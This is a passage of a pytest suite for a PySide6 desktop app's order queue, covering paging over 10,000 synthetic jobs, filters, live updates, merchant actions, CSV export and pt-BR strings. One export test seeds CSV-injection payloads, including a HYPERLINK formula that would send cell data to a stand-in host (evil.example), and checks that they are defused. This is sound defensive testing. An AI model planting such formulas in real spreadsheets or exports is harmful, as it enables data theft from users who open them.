"""The orders queue view: the paged model over 10,000 jobs (bench/queue_view.py measures a
million), live updates, the merchant's actions reaching the engine, the CSV export, the detail
pane, and the pt-BR catalogue.

The 10,000-job store is built once per session with bulk SQL and copied into each test's profile
before the service opens it. Jobs there are in states the engine leaves alone (nothing due), so
the running engine does not start working on them.
"""

from __future__ import annotations

import ast
import asyncio
import csv
import json
import shutil
import sqlite3
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import shiboken6
from PySide6.QtCore import QCoreApplication, Qt, QTranslator
from PySide6.QtGui import QBrush, QFontMetrics, QGuiApplication, QIcon
from PySide6.QtWidgets import QDialogButtonBox, QFileDialog

from pluggto_desktop.domain.jobs import state_label
from pluggto_desktop.domain.reasons import render
from pluggto_desktop.i18n import PT
from pluggto_desktop.simulator.catalogue import UNKNOWN_SKU
from pluggto_desktop.simulator.orders_gen import generate_order
from pluggto_desktop.store.db import connect
from pluggto_desktop.store.jobs import PAYLOAD_LINX_REQUEST, PAYLOAD_LINX_RESPONSE, PAYLOAD_PLUGGTO, JobQuery
from pluggto_desktop.ui.queue.dialogs import IgnoreDialog, ImportDialog
from pluggto_desktop.ui.queue.export import write_csv
from pluggto_desktop.ui.queue.model import PAGE_SIZE, JobRole
from pluggto_desktop.ui.queue.page import QueuePage

from .conftest import until

pytestmark = pytest.mark.qt

ROOT = Path(__file__).resolve().parents[2]
CATALOG = ROOT / "resources" / "translations" / "catalog" / "queue.json"
N_JOBS = 10_000
BASE = time.time() - 200 * 86400  # the oldest job; job i was updated at BASE + i seconds
MARKETPLACES = ("MercadoLivre", "Amazon", "Magalu", "Shopee", "Netshoes")
FIRST = ("Ana", "Bruno", "Carla", "Diego", "Eduarda", "Felipe", "Gabriela", "Henrique", "Isabela", "João",
         "Juliana", "Lucas", "Mariana", "Rafael", "Sofia", "Thiago", "Vitória", "André", "Beatriz", "Caio")
LAST = ("Silva", "Santos", "Oliveira", "Souza", "Rodrigues", "Ferreira", "Alves", "Pereira", "Lima", "Gomes",
        "Costa", "Ribeiro", "Martins", "Carvalho", "Almeida")
STATES = ("integrated",) * 12 + ("needs_attention", "needs_attention", "waiting_payment", "canceled", "ignored",
                                 "retry_wait")
SPECIAL = 4242  # a job with a buyer nobody else has
PAYLOAD_MARKER = "SEGREDO-DO-COMPRADOR"


# -- the 10,000-job store -------------------------------------------------------------------------
def _row(i: int) -> tuple[Any, ...]:
    state = STATES[i % len(STATES)]
    buyer = "Zuleica Quintanilha" if i == SPECIAL else f"{FIRST[i % 20]} {LAST[(i // 20) % 15]}"
    reason: tuple[Any, ...] = (None,) * 5
    if state in ("needs_attention", "ignored"):
        params = {"sku": f"SKU-{i}"}
        r = render("unknown_sku", params)
        reason = ("unknown_sku", r.title, r.message, r.hint, json.dumps(params))
    linx = str(500_000 + i) if state == "integrated" else None
    next_at = time.time() + 7200 if state == "retry_wait" else None
    return ("order", f"{i:024x}", state, i % 4 if state != "integrated" else 0, next_at, BASE + i, BASE + i, 0,
            *reason, MARKETPLACES[i % 5], f"MO-{i:07d}", buyer, "approved", 100.0 + i % 50, linx, linx,
            "Pedido de teste" if state == "ignored" else None, "needs_attention" if state == "ignored" else None)


def build_store(path: Path, n: int) -> None:
    conn = connect(path)
    conn.execute("BEGIN IMMEDIATE")
    conn.executemany(
        "INSERT INTO jobs (kind, key, state, attempts, next_attempt_at, created_at, updated_at, needs_fetch,"
        " reason_code, reason_title, reason_message, reason_hint, reason_params, marketplace,"
        " marketplace_order_id, buyer_name, pluggto_status, order_total, linx_order_id, linx_order_number,"
        " ignored_reason, ignored_from_state) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?,"
        " ?, ?)",
        (_row(i) for i in range(1, n + 1)),
    )
    conn.executemany("INSERT INTO job_payloads (job_id, kind, at, body) VALUES (?, 'pluggto', ?, ?)",
                     [(i, BASE, json.dumps({"receiver_email": PAYLOAD_MARKER})) for i in range(1, n + 1, 97)])
    conn.execute("COMMIT")
    conn.close()


@pytest.fixture(scope="session")
def template_db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("queue") / "template.db"
    build_store(path, N_JOBS)
    return path


@pytest.fixture
def big_db(tmp_path: Path, template_db: Path) -> Path:
    """The 10,000 jobs, copied where the ``service`` fixture opens its store."""
    target = tmp_path / "profile" / "pluggto.db"
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(template_db, target)
    return target


@pytest.fixture
def big_controller(big_db, controller):
    return controller


# -- helpers ----------------------------------------------------------------------------------------
async def wait_job(controller, job_id: int, states: set[str], timeout: float = 20.0) -> Any:
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    while True:
        job = await controller.store.get(job_id)
        if job is not None and job.state in states:
            return job
        if loop.time() > deadline:
            raise AssertionError(f"job {job_id} is {job.state if job else None}, not {states}")
        await asyncio.sleep(0.05)


async def loaded(page: QueuePage) -> None:
    await page.controller.tasks.wait_idle()
    await until(lambda: not page.model.loading and page.model.total is not None, what="first page")
    await page.controller.tasks.wait_idle()


@pytest.fixture
def make_page(controller, arun, qapp):
    pages: list[QueuePage] = []
    quit_on_close = qapp.quitOnLastWindowClosed()
    qapp.setQuitOnLastWindowClosed(False)  # closing the page must not stop the qasync loop

    def make(kind: str = "order", *, show: bool = True) -> QueuePage:
        async def build() -> QueuePage:
            page = QueuePage(controller, kind)
            page.resize(1400, 900)
            if show:
                page.show()
            await loaded(page)
            return page

        page = arun(build())
        pages.append(page)
        return page

    yield make

    async def close() -> None:
        for page in pages:
            if shiboken6.isValid(page):
                page.model.set_live(False)
                page.close()
                page.deleteLater()
        await asyncio.sleep(0.01)
        await controller.tasks.wait_idle()

    arun(close())
    qapp.setQuitOnLastWindowClosed(quit_on_close)


class JsonTranslator(QTranslator):
    """The pt-BR catalogue as a Qt translator (what the compiled .qm will hold)."""

    def __init__(self, catalog: dict[str, Any]) -> None:
        super().__init__()
        self.catalog = catalog

    def translate(self, context: str, source: str, disambiguation: str | None = None, n: int = -1) -> Any:
        value = self.catalog.get(source)
        if isinstance(value, list):
            return value[0] if n == 1 else value[-1]
        return value

    def isEmpty(self) -> bool:
        return False


def job_by(page: QueuePage, predicate: Callable[[Any], bool]) -> tuple[int, Any]:
    for row in range(page.model.rowCount()):
        job = page.model.job(row)
        if predicate(job):
            return row, job
    raise AssertionError("no loaded row matches")


def shown_state(page: QueuePage, job_id: int) -> str | None:
    """The state the table shows for a job (None when its row is not loaded)."""
    job = page.model.job(page.model.row_of(job_id))
    return job.state if job is not None else None


def column_texts(page: QueuePage, key: str) -> list[str]:
    col = page.model.column_of(key)
    return [page.model.index(row, col).data() for row in range(page.model.rowCount())]


async def engine_order(controller, sims, *, skus: list[str], index: int, status: str = "approved",
                       intermediary: str = "valid_bare", want: set[str] | None = None) -> Any:
    """An order the engine processed against the simulators."""
    order = sims.pluggto.add_order(generate_order(seed=5, index=index, status=status, skus=skus,
                                                  intermediary=intermediary), touch=True)
    controller.service.sync_now()
    loop = asyncio.get_running_loop()
    deadline = loop.time() + 20
    while True:
        job = await controller.store.find("order", order["id"])
        if job is not None and job.state in (want or {"integrated", "needs_attention", "waiting_payment",
                                                      "canceled"}):
            return job
        if loop.time() > deadline:
            raise AssertionError(f"order {order['id']} not processed: {job and job.state}")
        await asyncio.sleep(0.05)


# -- the model over 10,000 jobs ----------------------------------------------------------------------
def test_pages_load_on_demand_and_never_everything(big_controller, make_page, arun) -> None:
    page = make_page()
    model = page.model
    assert model.rowCount() == PAGE_SIZE
    assert model.total == N_JOBS and model.total_exact
    assert page.count_label.text().startswith("10.000 ")  # the profile's (pt-BR) digits
    assert model.job(0).id == N_JOBS  # newest first (updated_at desc)
    assert model.canFetchMore()

    async def more() -> None:
        model.fetchMore()
        await until(lambda: model.rowCount() == 2 * PAGE_SIZE, what="second page")
        await until(lambda: not model.loading)
        page.table.scrollToBottom()  # the view asks for the next page by itself
        await until(lambda: model.rowCount() == 3 * PAGE_SIZE, what="third page")
        await page.controller.tasks.wait_idle()

    arun(more())
    ids = model.job_ids()
    assert len(ids) == len(set(ids)) == 3 * PAGE_SIZE
    assert ids == sorted(ids, reverse=True)
    assert model.rowCount() < N_JOBS // 10  # a few pages, never the queue


def test_filter_by_state_marketplace_and_period(big_controller, make_page, arun) -> None:
    page = make_page()
    model = page.model

    async def scenario() -> None:
        page.apply_filters({"states": ["needs_attention"]})
        await loaded(page)
        assert page.state_combo.currentData() == "needs_attention"
        assert {model.job(r).state for r in range(model.rowCount())} == {"needs_attention"}
        expected = await page.controller.store.count_jobs(JobQuery(states=["needs_attention"]))
        assert model.total == expected and model.total_exact

        index = page.marketplace_combo.findData("Amazon")
        assert index > 0, "marketplaces listed from the store"
        page.marketplace_combo.setCurrentIndex(index)
        await loaded(page)
        assert {(model.job(r).state, model.job(r).marketplace) for r in range(model.rowCount())} == {
            ("needs_attention", "Amazon")}
        assert model.total == await page.controller.store.count_jobs(
            JobQuery(states=["needs_attention"], marketplace="Amazon"))

        page.apply_filters({"states": ["queued", "retry_wait"]})  # a set the combo does not list
        await loaded(page)
        assert page.marketplace_combo.currentIndex() == 0  # filters not given are cleared
        assert model.query.states == ["queued", "retry_wait"]
        assert {model.job(r).state for r in range(model.rowCount())} == {"retry_wait"}
        assert all(text.startswith("Nova tentativa às ") for text in column_texts(page, "state"))

        page.apply_filters({"date": "7d"})  # every job of the store is older than that
        await loaded(page)
        assert model.rowCount() == 0 and model.total == 0

    arun(scenario())


@pytest.mark.parametrize("what", ["marketplace_order_id", "key", "linx_order_number", "buyer_prefix"])
def test_search(big_controller, make_page, arun, what: str) -> None:
    page = make_page()
    model = page.model
    target = 4242 if what == "buyer_prefix" else 3_601  # 3_601 is integrated (it has a Linx number)
    row = _row(target)
    text = {"marketplace_order_id": row[14], "key": row[1], "linx_order_number": row[19],
            "buyer_prefix": "zuleica qu"}[what]

    async def scenario() -> None:
        page.search_edit.setText(text)
        page.search_edit.textEdited.emit(text)  # as typed: debounced
        assert model.query.search is None
        await until(lambda: model.query.search == text, what="debounced search")
        await loaded(page)

    arun(scenario())
    assert model.job_ids() == [target]
    assert model.total == 1


def test_a_search_that_finds_nothing_in_the_state_says_where_it_is(big_controller, make_page, arun,
                                                                    pt_translator) -> None:
    """Issue 12, item 7: a search under a state filter found nothing and said nothing."""
    page = make_page()
    model = page.model
    number = _row(3_601)[14]  # an integrated order

    async def scenario() -> None:
        page.apply_filters({"states": ["needs_attention"], "search": number})
        await loaded(page)
        await until(lambda: page.message.isVisible(), what="the hint")
        assert model.rowCount() == 0
        assert page.message.text() == "Nenhum pedido em <i>Precisa de atenção</i>; 1 em outras situações."
        assert page.message.action_button.isVisible() and page.message.action_button.text() == "Mostrar"
        page.message.action_button.click()  # clears the state filter, keeps the search
        await loaded(page)
        assert page.state_combo.currentIndex() == 0 and page.search_edit.text() == number
        assert model.job_ids() == [3_601]
        assert not page.message.isVisible()

        page.apply_filters({"states": ["needs_attention"], "search": "nada-com-isto"})  # nowhere at all
        await loaded(page)
        await page.controller.tasks.wait_idle()
        assert model.rowCount() == 0 and not page.message.isVisible()

    arun(scenario())


def test_buyer_prefix_search_many_rows(big_controller, make_page, arun) -> None:
    page = make_page()

    async def search(text: str) -> None:
        page.apply_filters({"search": text})
        await loaded(page)

    arun(search("Mariana"))  # a first name: more rows than a page
    names = column_texts(page, "buyer_name")
    assert len(names) == PAGE_SIZE and all(n.startswith("Mariana ") for n in names)
    assert page.model.total == sum(1 for i in range(1, N_JOBS + 1) if i % 20 == 12) > PAGE_SIZE

    arun(search("Mariana S"))  # and the surname's first letter: a prefix over both words
    names = column_texts(page, "buyer_name")
    expected = sum(1 for i in range(1, N_JOBS + 1) if i % 20 == 12 and LAST[(i // 20) % 15].startswith("S"))
    assert len(names) == min(expected, PAGE_SIZE) and all(n.startswith("Mariana S") for n in names)
    assert page.model.total == expected


@pytest.mark.parametrize("key", ["buyer_name", "attempts", "marketplace_order_id"])
def test_sort_both_orders(big_controller, make_page, arun, key: str) -> None:
    page = make_page()
    model = page.model
    col = model.column_of(key)

    for order, descending in ((Qt.SortOrder.AscendingOrder, False), (Qt.SortOrder.DescendingOrder, True)):
        async def sort(order: Qt.SortOrder = order) -> None:
            page.table.sortByColumn(col, order)  # what a header click does
            await loaded(page)

        arun(sort())
        assert model.query.order_by == key and model.query.descending == descending
        expected = arun(big_controller.store.list_jobs(JobQuery(order_by=key, descending=descending), limit=PAGE_SIZE))
        assert model.job_ids() == [j.id for j in expected]
        values = [getattr(model.job(r), key) for r in range(model.rowCount())]
        assert values == sorted(values, reverse=descending)

    async def unsortable() -> None:  # "Motivo" has no sort: the view keeps its order
        page.table.sortByColumn(model.column_of("reason"), Qt.SortOrder.AscendingOrder)
        await asyncio.sleep(0.05)
        await page.controller.tasks.wait_idle()

    arun(unsortable())
    assert model.query.order_by == key
    assert page.table.horizontalHeader().sortIndicatorSection() == col


def test_roles(big_controller, make_page) -> None:
    page = make_page()
    model = page.model
    row, job = job_by(page, lambda j: j.state == "needs_attention")
    state_col, reason_col = model.column_of("state"), model.column_of("reason")
    assert model.index(row, 0).data(JobRole) == job
    assert model.index(row, state_col).data() == "Precisa de atenção"
    assert model.index(row, reason_col).data() == "SKU não cadastrado na Linx"
    tip = model.index(row, reason_col).data(Qt.ItemDataRole.ToolTipRole)
    assert f"SKU-{job.id}" in tip and "Cadastre o SKU" in tip
    assert isinstance(model.index(row, state_col).data(Qt.ItemDataRole.ForegroundRole), QBrush)
    assert isinstance(model.index(row, state_col).data(Qt.ItemDataRole.DecorationRole), QIcon)
    ok_row, _ = job_by(page, lambda j: j.state == "integrated")
    assert model.index(ok_row, state_col).data(Qt.ItemDataRole.ForegroundRole) is None
    assert model.index(ok_row, model.column_of("updated_at")).data().count("/") == 2  # dd/mm/yyyy
    headers = [model.headerData(c, Qt.Orientation.Horizontal) for c in range(model.columnCount())]
    assert headers[:3] == ["Marketplace", "Order no.", "Buyer"]  # English source; pt-BR via Qt translation


def test_reason_rendered_in_the_ui_language(big_controller, make_page) -> None:
    big_controller.service.lang = "en"
    page = make_page()
    row, _job = job_by(page, lambda j: j.state == "needs_attention")
    assert page.model.index(row, page.model.column_of("reason")).data() == "SKU not registered in Linx"
    assert page.model.index(row, page.model.column_of("state")).data() == "Needs attention"


def test_products_queue_is_the_same_component(controller, make_page, arun) -> None:
    async def products() -> None:
        for i, title in enumerate(["Camiseta básica azul", "Camiseta básica verde", "Boné preto"]):
            await controller.store.upsert_job("product", f"SKU-{i}", title=title, state="integrated")

    arun(products())
    page = make_page("product")
    model = page.model
    assert [model.headerData(c, Qt.Orientation.Horizontal) for c in range(model.columnCount())][:2] == [
        "SKU", "Product"]
    assert model.total == 3 and page.count_label.text().startswith("3 product")
    assert page.marketplace_combo.isHidden() and not page.act_import.isVisible()
    assert page.detail.cnpj_box.isHidden()

    async def search() -> None:
        page.apply_filters({"search": "camiseta b"})
        await loaded(page)

    arun(search())
    assert sorted(column_texts(page, "title")) == ["Camiseta básica azul", "Camiseta básica verde"]


# -- live updates ------------------------------------------------------------------------------------
def test_live_update_of_a_loaded_row_in_place(big_controller, make_page, arun) -> None:
    page = make_page()
    model = page.model
    row = 150
    job = model.job(row)

    async def scenario() -> None:
        page.table.scrollTo(model.index(row, 0))
        await until(lambda: not model.follow_top, what="scrolled away from the top")
        await big_controller.store.upsert_job("order", job.key, buyer_name="Nome Alterado", state="needs_attention")
        big_controller.job_changed.emit({"job_id": job.id, "kind": "order", "key": job.key,
                                         "state": "needs_attention"})
        await until(lambda: model.job(row).buyer_name == "Nome Alterado", what="row refreshed")

    arun(scenario())
    assert model.row_of(job.id) == row  # refreshed in place, not moved under the user
    assert model.index(row, model.column_of("buyer_name")).data() == "Nome Alterado"
    assert model.index(row, model.column_of("state")).data() == "Precisa de atenção"


def test_new_jobs_appear_at_the_top_keeping_the_selection(big_controller, make_page, arun) -> None:
    page = make_page()
    model = page.model
    chosen = model.job(3)
    assert page.select_job(chosen.id)

    async def scenario() -> None:
        await big_controller.store.upsert_job("order", "f" * 24, state="needs_attention", marketplace="Shopee",
                                              marketplace_order_id="NOVO-1", buyer_name="Cliente Novo")
        big_controller.counts_changed.emit({"order": await big_controller.store.counts("order")})
        await until(lambda: model.job(0).key == "f" * 24, what="the new job at the top")

    arun(scenario())
    assert model.total == N_JOBS + 1
    assert page.current_job().id == chosen.id
    assert [j.id for j in page.selected_jobs()] == [chosen.id]
    assert model.row_of(chosen.id) == 4


def test_a_store_that_fails_is_reported_not_raised(big_controller, make_page, arun, monkeypatch) -> None:
    page = make_page()
    failures: list[tuple[str, str, str]] = []
    big_controller.failed.connect(lambda what, msg, technical: failures.append((what, msg, technical)))

    async def closed(*args: Any, **kwargs: Any) -> Any:
        raise sqlite3.ProgrammingError("Cannot operate on a closed database.")

    monkeypatch.setattr(big_controller.store, "query_jobs", closed)

    async def scenario() -> None:
        page.reload()
        await page.controller.tasks.wait_idle()

    arun(scenario())
    assert not page.model.loading and page.model.rowCount() == 0
    assert "closed database" not in page.message.text()  # the store's own words are for support:
    assert "closed database" in page.message.label.toolTip()  # in the tooltip, not the message
    assert failures == []


# -- export ------------------------------------------------------------------------------------------
def test_export_csv_of_the_filtered_view(big_controller, make_page, arun, tmp_path) -> None:
    page = make_page()
    target = tmp_path / "pedidos.csv"

    async def scenario() -> None:
        page.apply_filters({"states": ["needs_attention"], "marketplace": "Magalu"})
        await loaded(page)
        page.act_export.trigger()
        dialog = page._file_dialog
        assert isinstance(dialog, QFileDialog) and dialog.isVisible()  # opened with open(), not exec()
        dialog.fileSelected.emit(str(target))
        dialog.close()
        await page.controller.tasks.wait_idle()

    arun(scenario())
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows the accents
    assert PAYLOAD_MARKER.encode() not in raw
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    model = page.model
    assert rows[0] == [model.headerData(c, Qt.Orientation.Horizontal) for c in range(model.columnCount())]
    expected = arun(big_controller.store.count_jobs(JobQuery(states=["needs_attention"], marketplace="Magalu")))
    assert len(rows) - 1 == expected > PAGE_SIZE  # all of the view, not just the loaded rows
    state_col, mp_col = model.column_of("state"), model.column_of("marketplace")
    assert {(r[state_col], r[mp_col]) for r in rows[1:]} == {("Precisa de atenção", "Magalu")}
    assert rows[1][model.column_of("reason")] == "SKU não cadastrado na Linx"
    assert str(expected) in page.message.text()
    assert not (tmp_path / "pedidos.csv.part").exists()


def test_write_csv_can_be_canceled(big_controller, arun, tmp_path) -> None:
    import threading

    from pluggto_desktop.ui.queue.columns import ORDER_COLUMNS
    from pluggto_desktop.ui.queue.export import ExportCanceledError

    cancel = threading.Event()
    cancel.set()
    out = tmp_path / "out"
    out.mkdir()
    pages = big_controller.service.job_pages(JobQuery())
    with pytest.raises(ExportCanceledError):
        arun(write_csv(out / "x.csv", pages, ORDER_COLUMNS, ["h"] * len(ORDER_COLUMNS), PT, cancel=cancel))
    assert list(out.iterdir()) == []  # no half file left behind


def test_the_csv_export_never_hands_a_spreadsheet_a_formula(tmp_path, arun) -> None:
    from pluggto_desktop.store.export import job_pages
    from pluggto_desktop.store.jobs import AsyncStore, OrderSummary, Store
    from pluggto_desktop.ui.queue.columns import ORDER_COLUMNS

    db = tmp_path / "pluggto.db"
    store = Store(db)
    hostile = {
        "p1": ('=HYPERLINK("http://evil.example/?x="&A1,"Clique")', "@SUM(1+1)"),
        "p2": ("+55 11 99999-0000", "-2+3"),
        "p3": ("\tTAB", "\rCR"),
        "p4": ("Maria = Silva", "-12"),  # a sign inside the text, or a plain negative number: harmless
    }
    for key, (buyer, number) in hostile.items():
        store.record_polled_order(OrderSummary(key=key, marketplace="Amazon", buyer_name=buyer,
                                               marketplace_order_id=number, modified="m"), {"id": key})
    store.close()
    target = tmp_path / "x.csv"

    async def export() -> int:
        reader = AsyncStore(db)
        try:
            return await write_csv(target, job_pages(reader, JobQuery()), ORDER_COLUMNS,
                                   [c.key for c in ORDER_COLUMNS], PT)
        finally:
            await reader.aclose()

    assert arun(export()) == 4
    with open(target, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    keys = [c.key for c in ORDER_COLUMNS]
    cells = {(r[keys.index("buyer_name")], r[keys.index("marketplace_order_id")]) for r in rows[1:]}
    assert cells == {
        ("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Clique\")", "'@SUM(1+1)"),
        ("'+55 11 99999-0000", "'-2+3"),
        ("'\tTAB", "'\rCR"),
        ("Maria = Silva", "-12"),
    }
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


# -- actions against the engine and the simulators -----------------------------------------------------
def test_resend_after_the_cause_is_fixed_integrates(controller, sims, make_page, arun) -> None:
    job = arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=1))
    assert job.state == "needs_attention" and job.reason_code == "unknown_sku"
    page = make_page()
    assert page.select_job(job.id)
    assert page.act_retry.isEnabled() and not page.act_unignore.isEnabled()

    async def scenario() -> None:
        controller.service.pause(None)  # hold the engine: the row must show "Na fila" first
        page.act_retry.trigger()
        await controller.tasks.wait_idle()
        await until(lambda: shown_state(page, job.id) == "queued", what="the row follows the service's job event")
        row = page.model.row_of(job.id)
        assert page.model.index(row, page.model.column_of("state")).data() == "Na fila"
        sims.linx.add_sku(UNKNOWN_SKU, name="Camiseta verde XG")  # the merchant fixes the cause
        controller.service.resume()
        await wait_job(controller, job.id, {"integrated"})
        await until(lambda: page.model.job(page.model.row_of(job.id)).state == "integrated",
                    what="the row shows it integrated")

    arun(scenario())
    events = arun(controller.store.events(job.id))
    assert any(e.type == "retry_requested" for e in events)


def test_resend_selected(controller, sims, make_page, arun) -> None:
    jobs = [arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=i)) for i in (2, 3)]
    page = make_page()

    async def scenario() -> None:
        controller.service.pause(None)
        rows = [page.model.row_of(j.id) for j in jobs]
        page._select_rows(rows, rows[0])
        assert page.act_retry_selected.isEnabled()
        page.act_retry_selected.trigger()
        await controller.tasks.wait_idle()
        await until(lambda: all(shown_state(page, job.id) == "queued" for job in jobs), what="the rows follow")

    arun(scenario())
    for job in jobs:
        assert arun(controller.store.get(job.id)).state == "queued"
        assert page.model.job(page.model.row_of(job.id)).state == "queued"
    assert "2" in page.message.text()


def test_ignore_with_a_reason_and_undo(controller, sims, make_page, arun) -> None:
    job = arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=4))
    page = make_page()
    assert page.select_job(job.id)

    async def ignore() -> None:
        page.act_ignore.trigger()
        dialog = page._dialog
        assert isinstance(dialog, IgnoreDialog) and dialog.isVisible()
        ok = dialog.buttons.button(QDialogButtonBox.StandardButton.Ok)
        assert not ok.isEnabled()  # the reason is required
        dialog.reason_edit.setText("   ")
        assert not ok.isEnabled()
        dialog.reason_edit.setText("Pedido de teste do marketplace")
        ok.click()
        await controller.tasks.wait_idle()
        await until(lambda: shown_state(page, job.id) == "ignored", what="the row follows the service's job event")
        await until(lambda: page.act_unignore.isEnabled(), what="the actions follow the row")

    arun(ignore())
    stored = arun(controller.store.get(job.id))
    assert stored.state == "ignored" and stored.ignored_reason == "Pedido de teste do marketplace"
    row = page.model.row_of(job.id)
    assert page.model.index(row, page.model.column_of("state")).data() == "Ignorado"
    assert page.model.index(row, page.model.column_of("reason")).data() == "Pedido de teste do marketplace"
    assert page.act_unignore.isEnabled() and not page.act_retry.isEnabled() and not page.act_ignore.isEnabled()

    async def undo() -> None:
        page.act_unignore.trigger()
        await controller.tasks.wait_idle()
        await until(lambda: shown_state(page, job.id) == "needs_attention", what="the row follows")

    arun(undo())
    assert arun(controller.store.get(job.id)).state == "needs_attention"
    assert page.model.job(page.model.row_of(job.id)).state == "needs_attention"
    assert page.act_retry.isEnabled() and not page.act_unignore.isEnabled()


def test_the_ignore_message_offers_undo(controller, sims, make_page, arun, pt_translator) -> None:
    """Issue 12, item 8: "1 pedido ignorado. [Desfazer]"."""
    job = arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=4))
    page = make_page()
    assert page.select_job(job.id)

    async def scenario() -> None:
        await page.ignore([job.id], "Pedido de teste")
        assert page.message.text() == "1 pedido ignorado."
        assert page.message.action_button.isVisible() and page.message.action_button.text() == "Desfazer"
        assert (await controller.store.get(job.id)).state == "ignored"
        page.message.action_button.click()
        await controller.tasks.wait_idle()
        assert (await controller.store.get(job.id)).state == "needs_attention"
        assert page.message.text() == "1 pedido de volta à fila."

    arun(scenario())


def test_the_details_of_another_order_start_at_the_top(controller, sims, make_page, arun) -> None:
    """Issue 12, item 10: the details pane kept the previous order's scroll position."""
    first = arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=6))
    second = arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=7))
    page = make_page()
    page.splitter.setSizes([700, 120])  # a short details pane: it scrolls
    arun(_select(page, first.id))
    bar = page.detail.summary_scroll.verticalScrollBar()
    assert bar.maximum() > 0
    bar.setValue(bar.maximum())
    arun(_select(page, second.id))
    assert bar.value() == 0


def test_import_by_plugto_id(controller, sims, make_page, arun) -> None:
    order = sims.pluggto.add_order(generate_order(seed=9, index=7, status="approved", skus=["CAM-AZUL-M"]),
                                   notify=False)
    page = make_page()

    async def scenario() -> None:
        page.act_import.trigger()
        dialog = page._dialog
        assert isinstance(dialog, ImportDialog) and dialog.isVisible()
        ok = dialog.buttons.button(QDialogButtonBox.StandardButton.Ok)
        assert not ok.isEnabled()
        dialog.id_edit.setText("pedido-123")
        assert ok.isEnabled() and not dialog.warning.isHidden()  # warned, but allowed
        dialog.id_edit.setText(f"  {order['id']}  ")
        assert dialog.warning.isHidden()
        ok.click()
        await controller.tasks.wait_idle()
        job = await controller.store.find("order", order["id"])  # trimmed
        assert job is not None
        await until(lambda: page.current_job() is not None and page.current_job().id == job.id,
                    what="the imported job selected")
        assert page.model.query.search == order["id"]
        await wait_job(controller, job.id, {"integrated"})
        await until(lambda: page.model.job(page.model.row_of(job.id)).state == "integrated",
                    what="the row shows it integrated")
        # the bar no longer says "being imported": it says how it ended
        await until(lambda: page.message.label.text() == f"Order {order['id']} imported: it is in the store.",
                    what="the import's outcome")

        page.act_import.trigger()  # an id Plug.to does not have: said so, nothing added
        page._dialog.id_edit.setText("f" * 24)
        page._dialog.buttons.button(QDialogButtonBox.StandardButton.Ok).click()
        await controller.tasks.wait_idle()
        assert page.message.level == "error" and "f" * 24 in page.message.label.text()
        assert "Nada foi adicionado" in page.message.label.text()  # the core's words, in the profile's language
        assert await controller.store.find("order", "f" * 24) is None

    arun(scenario())


def test_import_by_a_marketplace_number_offers_the_plugto_order(controller, sims, make_page, arun) -> None:
    """Typing the marketplace's order number (an easy mistake) finds the Plug.to order and offers
    it with one button; nothing is queued until the button is pressed."""
    order = sims.pluggto.add_order(generate_order(seed=9, index=8, status="approved", skus=["CAM-AZUL-M"]),
                                   notify=False)
    page = make_page()

    async def scenario() -> None:
        page.act_import.trigger()
        page._dialog.id_edit.setText(order["original_id"])
        assert not page._dialog.warning.isHidden()  # not a Plug.to id: said it is looked for as a number
        page._dialog.buttons.button(QDialogButtonBox.StandardButton.Ok).click()
        await controller.tasks.wait_idle()
        assert page.message.level == "warning" and order["id"] in page.message.label.text()
        assert not page.message.action_button.isHidden()
        assert await controller.store.find("order", order["id"]) is None
        page.message.action_button.click()
        await controller.tasks.wait_idle()
        job = await controller.store.find("order", order["id"])
        assert job is not None
        await until(lambda: page.current_job() is not None and page.current_job().id == job.id,
                    what="the imported job selected")

    arun(scenario())


# -- the detail pane, screenshots, translations ------------------------------------------------------------
@pytest.fixture
def pt_translator(qapp, arun):
    """The app's pt-BR translation (the compiled .qm); the JSON catalogue when it is not built."""
    from pluggto_desktop.i18n import EN
    from pluggto_desktop.ui.i18n import install_language

    fallback = None
    if not install_language(PT):
        fallback = JsonTranslator(json.loads(CATALOG.read_text(encoding="utf-8")))
        QCoreApplication.installTranslator(fallback)
    yield
    if fallback is not None:
        QCoreApplication.removeTranslator(fallback)
    install_language(EN)

    async def settle() -> None:
        await asyncio.sleep(0.05)  # the LanguageChange events

    arun(settle())


def test_detail_pane_with_engine_jobs(controller, sims, make_page, arun, pt_translator) -> None:
    integrated = arun(engine_order(controller, sims, skus=["CAM-AZUL-M"], index=10, intermediary="valid_bare"))
    fallback = arun(engine_order(controller, sims, skus=["CAM-AZUL-M"], index=11, intermediary="missing"))
    attention = arun(engine_order(controller, sims, skus=[UNKNOWN_SKU], index=12))
    waiting = arun(engine_order(controller, sims, skus=["CAM-AZUL-M"], index=13, status="pending"))
    assert (integrated.state, fallback.state, attention.state, waiting.state) == (
        "integrated", "integrated", "needs_attention", "waiting_payment")
    page = make_page()
    detail = page.detail
    assert page.act_retry.text() == "Reenviar" and page.act_copy.text() == "Copiar detalhes"
    assert page.search_edit.placeholderText() == "Buscar por nº do pedido, ID do Plug.to, pedido Linx ou comprador"
    assert page.count_label.text() == "4 pedidos"

    def show(job_id: int) -> None:
        async def go() -> None:
            assert page.select_job(job_id)
            await until(lambda: detail._loaded_for is not None and detail._loaded_for[0] == job_id,
                        what="details loaded")

        arun(go())

    # integrated, CNPJ from the order
    show(integrated.id)
    events = arun(controller.store.events(integrated.id))
    payloads = arun(controller.store.payloads(integrated.id))
    assert detail.reason_box.isHidden()
    assert detail.field_values["linx_order"].text().startswith(f"nº {integrated.linx_order_number}")
    # the GUID the store keeps as OriginalOrderID, beside the number a person reads
    sent = arun(controller.store.payloads(integrated.id))[PAYLOAD_LINX_REQUEST]
